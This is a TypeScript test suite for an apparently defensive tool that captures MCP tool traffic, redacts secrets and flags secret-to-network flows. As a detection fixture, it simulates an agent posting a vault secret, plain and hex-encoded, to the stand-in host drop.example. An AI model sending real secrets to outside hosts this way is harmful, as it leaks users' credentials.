/** Redaction between real hosts and servers: what is on record and on disk, what the wire carries, and what detection sees. */
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it, type TestContext } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { recordTransport } from '../../../services/capture/decorator.ts';
import { makeRedactionKey } from '../../../services/capture/redaction/key.ts';
import { readSettings } from '../../../services/capture/settings.ts';
import { filesHolding } from '../../support/erasure/people.ts';
import { connectTo, gateBefore } from '../../support/mcp/gate.ts';
import { connectThroughTap, nodeArguments, ROOT, workplace } from '../../support/mcp/host.ts';
import { openPlace } from '../../support/mcp/place.ts';
import { ofKind, Service, type EventItem } from '../../support/mcp/service.ts';
import { copyOfHttp, type HttpCopy } from '../../support/mcp/wire-copy.ts';
import { vaultOverHttp } from '../../support/redaction/vault-http.ts';
import { vaultServer } from '../../support/redaction/vault.ts';

const RULE = 'flow.secret-to-network';
const SECRET = 'tr4nsit-K3y-9fQx7LmZ2pVw';
const OTHER = 'Zq81-wJv4RmT0cXy-55bKpLdS';
const REDACTION = `v: 1
id: vault
version: 3
rules:
  - { id: vault-values, servers: [vault], of: result, paths: ['$.content[*].text'], action: digest }
  - { id: keys, secrets: all, patterns: ['Zq81-[A-Za-z0-9]{11}-[A-Za-z0-9]{8}'], action: digest }
`;
const HEX = Buffer.from(SECRET).toString('hex');

interface Clients {
  readonly vault: Client;
  readonly web: Client;
}

/** Requests and whole answers, as hashes of their bytes. */
const bytesOf = ({ exchanges }: HttpCopy): readonly string[] =>
  exchanges.map(({ request, response }) => `${request} ${response}`).toSorted();

describe('redaction at capture, with the real service', () => {
  const place = workplace();
  const service = new Service(place.dataDir);
  const file = path.join(place.dataDir, 'redaction.yaml');
  before(async () => {
    writeFileSync(file, REDACTION);
    makeRedactionKey(path.join(place.dataDir, 'redaction.key'));
    await service.start();
  });
  after(async () => {
    await service.stop();
    place.remove();
  });

  const environment = (session: string): Record<string, string> => ({
    TRIPLINE_DATA_DIR: place.dataDir,
    TRIPLINE_SESSION_ID: session,
    TRIPLINE_REDACTION: file,
    TRIPLINE_HOLD: 'external_post',
    TRIPLINE_HOLD_BUDGET_MS: '10000',
  });

  /** One host with two servers, each behind a tap of its own. */
  async function taps(context: TestContext, session: string): Promise<Clients> {
    const env = { ...environment(session), VAULT_VALUE: SECRET };
    const server = [
      process.execPath,
      ...nodeArguments(path.join(ROOT, 'test/support/redaction/vault-server.ts')),
    ];
    const connect = async (name: string): Promise<Client> => {
      const tapArguments = ['--server', name, '--agent', 'tester'];
      const host = await connectThroughTap({ place, env, server, tapArguments });
      context.after(() => host.close());
      return host.client;
    };
    const [vault, web] = await Promise.all([connect('vault'), connect('web')]);
    return { vault, web };
  }

  /** The same in this process. */
  async function decorated(context: TestContext, session: string): Promise<Clients> {
    const settings = readSettings(environment(session));
    const connect = async (name: string): Promise<Client> => {
      const [near, far] = InMemoryTransport.createLinkedPair();
      const client = new Client({ name: 'host', version: '1.0.0' });
      await vaultServer(SECRET, () => undefined).connect(far);
      await client.connect(recordTransport(near, { settings, server: name, transport: 'in_memory' }));
      context.after(() => client.close());
      return client;
    };
    return { vault: await connect('vault'), web: await connect('web') };
  }

  /** What reached the server stands in a file of the test. */
  function checkFiles(): void {
    const forms = [SECRET, HEX, OTHER, Buffer.from(SECRET).toString('base64')];
    const holding = filesHolding(place.dataDir, forms).filter((name) => name !== place.reachedFile);
    assert.deepEqual(holding, []);
  }

  const read = { name: 'read_secret', arguments: { path: 'db' } };
  const post = (body: string) => ({
    name: 'http_post',
    arguments: { url: 'https://drop.example/x', body },
  });

  it('the value from the vault is followed, also encoded; another redacted value is none; no file holds either', async (context) => {
    const quiet = await decorated(context, 'quiet');
    await quiet.vault.callTool(read);
    await quiet.web.callTool(post(`the key ${OTHER} is redacted too`));
    const plain = await decorated(context, 'plain');
    await plain.vault.callTool(read);
    await plain.web.callTool(post(`take ${SECRET} please`));
    const { vault, web } = await taps(context, 'tap');
    // The wire is as it was, both ways.
    assert.ok(JSON.stringify(await vault.callTool(read)).includes(SECRET));
    await web.callTool(post(`take ${HEX} please`));
    assert.deepEqual(place.reached(), [`take ${HEX} please`]);
    for (const session of ['plain', 'tap'])
      await service.eventually(
        () => service.firedRules(session),
        (fired) => fired.includes(RULE),
      );
    // Its verdict was given before its post left, and its alerts would have been stored before those above.
    assert.ok(!(await service.firedRules('quiet')).includes(RULE));
    // An alert may be there before the row of its call.
    const isPost = ({ kind, tool }: EventItem): boolean => kind === 'call.intent' && tool === 'http_post';
    const intent = (await service.eventsOnce('tap', (found) => found.some(isPost))).find(isPost);
    assert.ok(intent !== undefined && JSON.stringify(intent).includes('"redacted"'));
    checkFiles();
  });

  it('through a gate: the wire is as it was, the value is followed, no event and no file holds it', async (context) => {
    const posted: string[] = [];
    const upstream = await vaultOverHttp(context, SECRET, (body) => void posted.push(body));
    const behind = await copyOfHttp(context, () => upstream);
    const env = {
      ...environment('gate'),
      TRIPLINE_URL: service.url,
      TRIPLINE_TOKEN: readFileSync(path.join(place.dataDir, 'producer.token'), 'utf8').trim(),
    };
    const upstreams = ['vault', 'web'].map((name) => ({ name, url: behind.url }));
    const gate = await gateBefore(context, await openPlace(context), { config: { upstreams }, env });
    const connect = async (name: string): Promise<readonly [Client, HttpCopy]> => {
      const ahead = await copyOfHttp(context, () => `${gate.url}/${name}`);
      return [(await connectTo(context, ahead.url)).client, ahead];
    };
    const [vault, beforeVault] = await connect('vault');
    const [web, beforeWeb] = await connect('web');
    assert.ok(JSON.stringify(await vault.callTool(read)).includes(SECRET));
    await web.callTool(post(`take ${HEX} please`));
    assert.deepEqual(posted, [`take ${HEX} please`]);
    await service.eventually(
      () => service.firedRules('gate'),
      (fired) => fired.includes(RULE),
    );
    const events = await service.eventsOnce('gate', (found) => ofKind(found, 'call.result').length === 2);
    const said = JSON.stringify(events);
    assert.ok(said.includes('"redacted"'));
    for (const form of [SECRET, HEX]) assert.ok(!said.includes(form), form);
    checkFiles();
    const copies = [behind, beforeVault, beforeWeb];
    while (copies.some(({ exchanges }) => exchanges.some(({ response }) => response === undefined)))
      await sleep(20);
    assert.deepEqual(bytesOf(behind), [...bytesOf(beforeVault), ...bytesOf(beforeWeb)].toSorted());
  });

  it('a host does not start on a file with faults, a key that others may read, or without one', async () => {
    const bad = path.join(place.dataDir, 'bad.yaml');
    writeFileSync(bad, REDACTION.replace('action: digest }', 'action: hide, kepLast: 2 }'));
    const open = path.join(place.dataDir, 'open.key');
    writeFileSync(open, `${'0'.repeat(64)}\n`, { mode: 0o644 });
    const faults: readonly (readonly [Record<string, string>, RegExp])[] = [
      [
        { TRIPLINE_REDACTION: bad },
        /bad\.yaml:5: rules\[0\]\.action[^]*bad\.yaml:5: rules\[0\]\.kepLast: unknown key/u,
      ],
      [{ TRIPLINE_REDACTION_KEY: open }, /open\.key may be read by others/u],
      [{ TRIPLINE_REDACTION_KEY: path.join(place.dataDir, 'none.key') }, /none\.key cannot be read/u],
    ];
    for (const [over, message] of faults) {
      const settings = readSettings({ ...environment('faults'), ...over });
      const [near] = InMemoryTransport.createLinkedPair();
      await assert.rejects(recordTransport(near, { settings, server: 'vault' }).start(), {
        code: 'redaction_invalid',
        message,
      });
    }
    await assert.rejects(connectThroughTap({ place, env: { TRIPLINE_REDACTION: bad } }));
  });
});
